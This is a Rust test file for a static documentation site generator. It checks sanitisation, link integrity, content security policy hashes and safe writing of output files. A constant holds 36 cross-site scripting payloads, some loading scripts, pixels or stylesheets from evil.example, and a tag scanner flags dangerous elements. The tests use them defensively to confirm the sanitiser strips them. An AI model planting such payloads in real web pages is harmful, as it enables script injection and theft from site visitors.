//! Tests of the whole site. Forbidden contents are searched in the tags of a page, not in its text.

use std::collections::BTreeSet;
use std::path::Path;

use base64::Engine as _;
use sha2::Digest as _;

use super::*;
use crate::diagnostics::SourceFile;
use crate::library::{Action, FileState, Part, Root};

fn here() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

fn action(folder: &str, files: &[(Part, &str)]) -> Action {
    Action::from_files(folder, &Root::default(), |part, path| {
        let text = files.iter().find(|(known, _)| *known == part);
        text.map_or(FileState::Missing, |(_, text)| FileState::Text(SourceFile::new(path.clone(), *text)))
    })
}

fn library(actions: Vec<Action>) -> Library {
    Library::in_memory(Path::new(""), FileState::Missing, actions)
}

fn pages(library: &Library) -> Vec<Page> {
    super::pages(library, &Histories::new())
}

fn docs_page(markdown: &str) -> String {
    let library = library(vec![action("actions/a", &[(Part::Docs, markdown)])]);
    let page = pages(&library).into_iter().find(|page| page.path == "actions/a.html").unwrap();
    page.content
}

/// The tags of a page with their attributes, without texts and the page's own style and script.
fn tags(page: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut tags = Vec::new();
    let mut rest = page;
    while let Some(start) = rest.find('<') {
        rest = &rest[start + 1..];
        let mut quoted = false;
        let end = rest.char_indices().find(|&(_, c)| {
            quoted ^= c == '"';
            c == '>' && !quoted
        });
        let tag = &rest[..end.unwrap().0];
        let (name, mut list) = tag.split_once([' ', '\n']).unwrap_or((tag, ""));
        let mut attributes = Vec::new();
        while !list.trim().is_empty() {
            let at = list.find(['=', ' ']).unwrap_or(list.len());
            let key = list[..at].trim().to_lowercase();
            let value = match list[at..].strip_prefix("=\"") {
                Some(value) => &value[..value.find('"').unwrap()],
                None => "",
            };
            list = &list[(at
                + if value.is_empty() && !list[at..].starts_with("=\"") { 1 } else { value.len() + 3 })
            .min(list.len())..];
            if !key.is_empty() {
                attributes.push((key, value.replace("&#x2f;", "/").to_lowercase()));
            }
        }
        rest = &rest[tag.len()..];
        for raw in ["script", "style"] {
            if name == raw {
                rest = &rest[rest.find(&format!("</{raw}>")).unwrap()..];
            }
        }
        tags.push((name.to_lowercase(), attributes));
    }
    tags
}

fn dangers(page: &str) -> Vec<String> {
    let mut found = Vec::new();
    let tags = tags(page);
    for (name, attributes) in &tags {
        if ["iframe", "object", "embed", "svg", "math", "base", "frame", "video", "audio", "template"]
            .contains(&name.as_str())
        {
            found.push(name.clone());
        }
        for (key, value) in attributes {
            let loads = [
                "src", "srcset", "background", "poster", "data", "xlink:href", "action", "formaction",
                "style",
            ];
            let fine = key == "src" && value.starts_with("data:image/");
            if key.starts_with("on") || (loads.contains(&key.as_str()) && !fine) {
                found.push(format!("{name} {key}"));
            }
            let scheme = value.split_once(':').map(|(scheme, _)| scheme);
            if key == "href"
                && name == "a"
                && scheme.is_some_and(|scheme| !["http", "https", "mailto", "tel"].contains(&scheme))
            {
                found.push(format!("{name} {key}={value}"));
            }
        }
    }
    for (only, times) in [("script", 1), ("style", 1), ("meta", 5), ("link", 1), ("form", 0), ("h1", 1)] {
        let count = tags.iter().filter(|(name, _)| name == only).count();
        if count != times {
            found.push(format!("{count} of {only}"));
        }
    }
    found
}

const HOSTILE: [&str; 36] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.png>",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=x>",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style=\"background:url(https://evil.example/x)\">x</div>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<form action=https://evil.example><input name=x><button formaction=javascript:alert(1)>x</button></form>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#10;script:alert(1))",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"&#1;javascript:alert(1)\">x</a>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)><h1 id=content>x</h1>",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "</main></body><script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>\n\n## <b onclick=alert(1)>x</b> <script>alert(1)</script>\n\ntext",
];

#[test]
fn nothing_hostile_in_a_docs_md_survives() {
    assert_eq!(dangers(&docs_page("plain")), Vec::<String>::new());
    for vector in HOSTILE {
        for around in ["{}", "text {} text", "> {}", "| a |\n|---|\n| {} |", "## Parameters\n\n{}"] {
            let page = docs_page(&around.replace("{}", vector));
            assert_eq!(dangers(&page), Vec::<String>::new(), "{vector} in {around}");
        }
    }
    let seen = dangers("<a href=\"javascript:x\" onclick=\"x\">").len();
    assert!(seen >= 2, "the check sees nothing");
}

#[test]
fn nothing_hostile_in_any_other_file_survives() {
    for vector in HOSTILE {
        let text = serde_json::Value::from(format!("\"'>{vector}")).to_string();
        let config = r#"{"parameters":[{"key":$,"type":"select","label":$,"description":$,"defaultValue":$,"placeholder":$,
            "hint":$,"pattern":$,"options":[{"value":$,"label":$}]},{"key":"k","type":$},{"key":"t","type":"textarea","defaultValue":$},
            {"key":"s","type":"static","label":$},{"key":"r","type":"radio","label":$,"options":[{"value":$}]}],
            "ui":{"groups":[{"id":"g","title":$,"fields":[$,"k","no"]}]},"json_example":{"a":$},
            "events_schema":[{"name":$,"label":$,"description":$}]}"#;
        let information =
            "id=$\nname=$\ndescription=$\ngroup=$\nversion=$\nintegration=$\ntags=[$]\naliases=[$]\n";
        let tests = "cases: [{name: $, params: {a: $}, each: [$], expect: {event: $, logs: [$]}}]";
        let filled = |template: &str| template.replace('$', &text);
        let (config, information, tests) = (filled(config), filled(information), filled(tests));
        let files = [
            (Part::Information, information.as_str()),
            (Part::Code, vector),
            (Part::Config, config.as_str()),
            (Part::Tests, tests.as_str()),
        ];
        for page in pages(&library(vec![action("actions/a", &files)])) {
            let mut expected = Vec::new();
            if page.path == paths::INDEX {
                expected.extend(["2 of script".to_owned(), "1 of form".to_owned()]);
            }
            assert_eq!(dangers(&page.content), expected, "{vector} in {}", page.path);
        }
    }
}

#[test]
fn pictures_within_the_text_stay_and_others_become_links() {
    let page = docs_page(
        "![dot](data:image/png;base64,AAAA) ![far](https://example.com/a.png) [![badge](https://example.com/b.svg)](https://example.com)",
    );
    assert!(page.contains(r#"<img src="data:image/png;base64,AAAA" alt="dot">"#), "{page}");
    assert!(page.contains(r#"<a href="https://example.com/a.png" rel="noopener noreferrer">far</a>"#));
    assert!(page.contains(r#"<a href="https://example.com" rel="noopener noreferrer">badge</a>"#));
}

#[test]
fn docs_are_cut_at_their_headings_and_nothing_is_lost() {
    let page = docs_page(
        "# Title\n\nintro\n\n## Notes\n\n- [x] done\n\n> ## Quoted\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n### Deep\n\n[up](#notes)\n\n## Notes\n\nagain\n\n# Second title\n\nend",
    );
    for expected in [
        r#"<h2 id="doc-notes">Notes</h2>"#,
        r#"<h2 id="doc-notes-1">Notes</h2>"#,
        r#"<h2 id="doc-second-title">Second title</h2>"#,
        r#"<h2 id="doc-quoted">Quoted</h2>"#,
        r#"<h3 id="doc-deep">Deep</h3>"#,
        r##"<a href="#doc-notes""##,
        "☑ done",
        r#"<div class="scroll" tabindex="0"><table><thead><tr><th scope="col">a</th>"#,
        "<p>intro</p>",
        "<p>end</p>",
    ] {
        assert!(page.contains(expected), "{expected}\n{page}");
    }
    assert!(!page.contains(">Title<"));
}

#[test]
fn every_link_and_anchor_of_the_real_site_leads_somewhere() {
    for root in [here().to_path_buf(), here().join("examples/hello"), here().join("examples/broken")] {
        let library = Library::load(&root).unwrap();
        let pages = pages(&library);
        assert_eq!(pages.len(), library.actions.len() + 1);
        let anchors = |page: &Page| -> Vec<String> {
            tags(&page.content)
                .into_iter()
                .flat_map(|(_, list)| list)
                .filter(|(key, _)| key == "id")
                .map(|(_, id)| id)
                .collect()
        };
        for page in &pages {
            let ids = anchors(page);
            assert_eq!(ids.iter().collect::<BTreeSet<_>>().len(), ids.len(), "{} has an id twice", page.path);
            assert!(
                dangers(&page.content)
                    .iter()
                    .all(|danger| ["2 of script", "1 of form"].contains(&danger.as_str())),
                "{}",
                page.path
            );
            for (_, attributes) in tags(&page.content) {
                for (key, href) in attributes
                    .iter()
                    .filter(|(key, _)| ["href", "for", "aria-labelledby"].contains(&key.as_str()))
                {
                    if key != "href" {
                        assert!(ids.contains(href), "{}: {href}", page.path);
                        continue;
                    }
                    if href.starts_with("http") || href.starts_with("data:") {
                        continue;
                    }
                    let (file, anchor) = href.split_once('#').unwrap_or((href, ""));
                    let folder = page.path.rsplit_once('/').map_or("", |(folder, _)| folder);
                    let path = match file.strip_prefix("../") {
                        _ if file.is_empty() => page.path.to_lowercase(),
                        Some(up) => up.to_owned(),
                        None if folder.is_empty() => file.to_owned(),
                        None => format!("{folder}/{file}"),
                    };
                    let target = pages.iter().find(|page| page.path.to_lowercase() == path);
                    let target = target.unwrap_or_else(|| panic!("{}: {href}", page.path));
                    assert!(
                        anchor.is_empty() || anchors(target).contains(&anchor.to_owned()),
                        "{}: {href}",
                        page.path
                    );
                }
            }
        }
    }
}

#[test]
fn the_same_library_gives_the_same_pages() {
    assert_eq!(
        pages(&Library::load(here()).unwrap()),
        pages(&Library::load(&here().join("src/..")).unwrap())
    );
}

#[test]
fn a_page_says_what_is_missing_or_broken() {
    let files = [(Part::Information, "name = "), (Part::Config, "{\n  \"parameters\": [,]\n}")];
    let page = pages(&library(vec![action("actions/a", &files)])).remove(0).content;
    for expected in [
        "actions&#x2f;a&#x2f;code.js</code>: the file is missing",
        "config.json</code>: line 2",
        "action.toml</code>: line 1",
    ] {
        assert!(page.contains(expected), "{expected}\n{page}");
    }
    assert!(pages(&library(Vec::new()))[0].content.contains("no actions yet"));
}

#[test]
fn groups_stand_in_the_order_of_the_manifest() {
    let manifest = "[library]\nname = \"l\"\n[groups]\nZ = \"last letter\"\nA = \"first\"\nEmpty = \"\"\n";
    let of = |folder: &str, group: &str| {
        action(folder, &[(Part::Information, &format!("name = \"{folder}\"\n{group}"))])
    };
    let actions = vec![
        of("actions/1", ""),
        of("actions/2", "group = \"A\""),
        of("actions/3", "group = \"Z\""),
        of("actions/4", "group = \"M\""),
    ];
    let manifest = FileState::Text(SourceFile::new("actionjail.toml", manifest));
    let library = Library::in_memory(Path::new(""), manifest, actions);
    let pages = pages(&library);
    let index = &pages.last().unwrap().content;
    let at = |text: &str| index.find(text).unwrap_or_else(|| panic!("{text}"));
    assert!(at(">Z <") < at(">A <") && at(">A <") < at(">M <") && at(">M <") < at(">Without a group <"));
    assert!(!index.contains(">Empty <"));
    assert_eq!(
        pages.iter().map(|page| page.path.as_str()).collect::<Vec<_>>(),
        ["actions/1.html", "actions/2.html", "actions/3.html", "actions/4.html", "index.html"]
    );
}

#[test]
fn the_policy_names_what_the_pages_carry_and_nothing_else() {
    for (text, known) in template::ALLOWED {
        let hash = base64::engine::general_purpose::STANDARD.encode(sha2::Sha256::digest(text.as_bytes()));
        let begin: String = text.chars().skip(20).take(60).collect();
        assert_eq!(known, format!("sha256-{hash}"), "set it in ALLOWED to the second of the two: {begin:?}");
        assert!(!text.contains("</"), "the element would end there");
    }
    for page in pages(&library(vec![action("actions/a", &[])])) {
        let script = template::ALLOWED[if page.path == paths::INDEX { 1 } else { 2 }];
        let policy = format!(
            "default-src 'none'; style-src '{}'; script-src '{}'; img-src data:; base-uri 'none'; form-action 'none'",
            template::ALLOWED[0].1,
            script.1
        );
        assert!(page.content.replace("&#x2f;", "/").contains(&policy), "{}", page.path);
        assert!(page.content.contains(&format!("<script>{}</script>", script.0)), "{}", page.path);
        assert!(
            page.content.contains(&format!("<style>{}</style>", template::ALLOWED[0].0)),
            "{}",
            page.path
        );
    }
}

#[test]
fn a_site_is_written_kept_in_step_and_rid_of_stale_pages() {
    let out = tempfile::tempdir().unwrap();
    let out = out.path().join("site");
    let two = library(vec![action("actions/a", &[]), action("actions/b", &[])]);
    assert_eq!(
        out_of_step(&two, &Root::at(&out)),
        ["actions/a.html is missing", "actions/b.html is missing", "index.html is missing"]
    );
    assert_eq!(write(&two, &Histories::new(), &Root::at(&out)).unwrap().written.len(), 3);
    assert_eq!(out_of_step(&two, &Root::at(&out)), Vec::<String>::new());
    assert_eq!(write(&two, &Histories::new(), &Root::at(&out)).unwrap().unchanged.len(), 3);
    assert_eq!(std::fs::read_dir(&out).unwrap().count(), 3, "a draft is left");
    std::fs::write(out.join("actions/mine.html"), "mine").unwrap();
    std::fs::write(out.join("CNAME"), "mine").unwrap();
    let one = library(vec![action("actions/a", &[])]);
    assert_eq!(out_of_step(&one, &Root::at(&out)), ["actions/b.html is stale", "index.html differs"]);
    let summary = write(&one, &Histories::new(), &Root::at(&out)).unwrap();
    assert_eq!(
        (summary.written, summary.removed),
        (vec!["index.html".to_owned()], vec!["actions/b.html".to_owned()])
    );
    assert!(out.join("actions/mine.html").exists() && out.join("CNAME").exists());
    let mine = library(vec![action("actions/mine", &[])]);
    let error = write(&mine, &Histories::new(), &Root::at(&out)).unwrap_err();
    assert!(matches!(error, WriteError::InTheWay(_)) && error.hint().is_some());
    assert_eq!(
        out_of_step(&one, &Root::at(&out)),
        Vec::<String>::new(),
        "nothing was written before the refusal"
    );
}

#[cfg(unix)]
#[test]
fn where_a_page_cannot_get_its_place_no_page_is_disowned() {
    use std::os::unix::fs::PermissionsExt as _;
    let place = tempfile::tempdir().unwrap();
    let out = place.path().join("deep/site");
    let two = library(vec![action("actions/a", &[]), action("actions/b", &[])]);
    // A file where the folder of the pages belongs.
    std::fs::create_dir_all(&out).unwrap();
    std::fs::write(out.join("actions"), "mine").unwrap();
    assert!(matches!(write(&two, &Histories::new(), &Root::at(&out)), Err(WriteError::Journal(_))));
    assert_eq!(std::fs::read_dir(&out).unwrap().count(), 1, "something is left");
    std::fs::remove_file(out.join("actions")).unwrap();
    write(&two, &Histories::new(), &Root::at(&out)).unwrap();
    // A folder in place of a page that was listed.
    std::fs::remove_file(out.join("actions/b.html")).unwrap();
    std::fs::create_dir(out.join("actions/b.html")).unwrap();
    std::fs::write(out.join("index.html"), "old").unwrap();
    assert!(matches!(write(&two, &Histories::new(), &Root::at(&out)), Err(WriteError::InTheWay(_))));
    assert_eq!(std::fs::read_to_string(out.join("index.html")).unwrap(), "old");
    std::fs::remove_dir(out.join("actions/b.html")).unwrap();
    let mode = |mode| std::fs::Permissions::from_mode(mode);
    std::fs::set_permissions(out.join("index.html"), mode(0o640)).unwrap();
    write(&two, &Histories::new(), &Root::at(&out)).unwrap();
    assert_eq!(out.join("index.html").metadata().unwrap().permissions().mode() & 0o777, 0o640);
    assert_eq!(out_of_step(&two, &Root::at(&out)), Vec::<String>::new());
}

#[test]
fn the_history_can_be_taken_out_of_a_page_and_nothing_else() {
    let marks = "<!--history-->\n\ntext\n\n<!--/history-->\n";
    let of = |folder: &str| {
        action(folder, &[(Part::Docs, marks), (Part::Information, "version = \"2\""), (Part::Code, marks)])
    };
    let library = library(vec![of("actions/a"), of("actions/b")]);
    let version = |version: &str, time: i64, entry: Option<&str>| Version {
        version: version.to_owned(),
        commit: Some(Commit { id: "0123456789".to_owned(), time }),
        entry: entry.map(str::to_owned),
        subject: Some(marks.to_owned()),
    };
    let versions =
        vec![version("2", 0, Some(marks)), version("1", i64::MAX, None), version("2", 0, Some("once"))];
    let known_since = Some(Commit { id: "abcdef0123".to_owned(), time: 86_400 });
    let known = Versions { versions, earlier: 1, known_since };
    let histories =
        Histories::from([("actions/a".to_owned(), known), ("actions/b".to_owned(), Versions::default())]);
    let (with, without) = (super::pages(&library, &histories), pages(&library));
    for (with, without) in with.iter().zip(&without) {
        assert_eq!(versions::without_history(&with.content), without.content);
        assert_eq!(dangers(&with.content), dangers(&without.content));
        assert_eq!(page(&library, &histories, &with.path).as_ref(), Some(&with.content));
    }
    let page = &with[0].content;
    assert_ne!(page, &without[0].content);
    assert_eq!(with[1], without[1], "of an action whose versions are not known nothing is told");
    for part in [
        "<strong>2</strong> <span class=\"badge\">again</span>",
        "And 1 earlier version.",
        "read back to <time datetime=\"1970-01-02\">1970-01-02</time> <code class=\"commit\">abcdef0123</code>;",
        "<p>once</p>",
    ] {
        assert!(page.contains(part), "{part}\n{page}");
    }
    assert_eq!(page.matches("1970-01-01").count(), 4, "a time beyond all years is left out");
}

#[test]
fn a_list_that_names_other_files_removes_none_of_them() {
    let folder = tempfile::tempdir().unwrap();
    let out = folder.path().join("site");
    std::fs::create_dir_all(out.join("actions/deep")).unwrap();
    let precious = ["precious.html", "site/other.html", "site/actions/deep/x.html", "site/actions/x.txt"];
    for path in precious {
        std::fs::write(folder.path().join(path), "x").unwrap();
    }
    let absolute = folder.path().join("precious.html");
    let list = format!(
        "../precious.html\nactions/../../precious.html\nother.html\nactions/deep/x.html\nactions/x.txt\n{}\n",
        absolute.display()
    );
    std::fs::write(out.join(LIST), list).unwrap();
    write(&library(Vec::new()), &Histories::new(), &Root::at(&out)).unwrap();
    assert!(precious.iter().all(|path| folder.path().join(path).exists()));
}
